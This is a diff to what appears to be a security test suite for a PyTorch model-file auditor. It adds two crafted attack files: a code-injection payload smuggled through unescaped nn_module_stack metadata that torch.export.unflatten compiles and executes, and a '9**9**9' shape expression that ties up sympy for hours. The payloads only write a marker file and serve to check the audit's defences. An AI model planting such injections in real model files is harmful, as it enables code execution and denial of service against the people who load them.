@@ -131,7 +131,54 @@ def legacy_fallback(folder: Path) -> Crafted:
     return Crafted(edit(path, change), markers=[marker])
 
 
+def module_stack_source(folder: Path) -> Crafted:
+    """A module path in nn_module_stack metadata: torch.export.unflatten makes it a submodule
+    and writes it, unescaped, into the source of the parent's GraphModule
+    (`getattr(self, "<path>")`), which it compiles; a quote and a newline put the file's
+    `exec` into that source. The audit used to skip metadata."""
+    marker = folder / "marker"
+    code = f"open({str(marker)!r}, 'w').write('ran')".encode()
+    evil = 'head")\nexec(bytes((' + ",".join(map(str, code)) + ")))\nif 1:pass#("
+
+    def change(doc: dict) -> None:
+        for node in doc["graph_module"]["graph"]["nodes"]:
+            stack = node.get("metadata", {}).get("nn_module_stack")
+            if stack:
+                node["metadata"]["nn_module_stack"] = stack.replace(",head,", f",{evil},")
+
+    path = export(MLP(D), folder / "stack.pt2", D)
+    return Crafted(edit(path, edit_json("models/model.json", change)), markers=[marker])
+
+
+def shape_expression_bomb(folder: Path) -> Crafted:
+    """A tensor size `9**9**9`: torch sympifies it, computing a 369-million-digit integer
+    (hours); 17 KB. The audit allowed `**` with any exponent of at most 64, chained."""
+
+    def change(members: Members, root: str) -> Members:
+        old = b"Symbol('s77', positive=True, integer=True)"
+        return [
+            (i, d.replace(old, b"9**9**9", 1) if i.filename.endswith("models/model.json") else d)
+            for i, d in members
+        ]
+
+    return Crafted(edit(export(MLP(D), folder / "sympy.pt2", D), change))
+
+
 ATTACKS = [
+    Attack(
+        "shape-expression-bomb",
+        shape_expression_bomb,
+        ("extract", "inspect"),
+        ("shape expression '9**9**9'", "--trust-code"),
+        succeeds=("inspect",),
+    ),
+    Attack(
+        "module-stack-source",
+        module_stack_source,
+        ("extract", "inspect"),
+        ("module stack entry", "--trust-code"),
+        succeeds=("inspect",),
+    ),
     Attack(
         "second-program-pickled-weight",
         second_program,
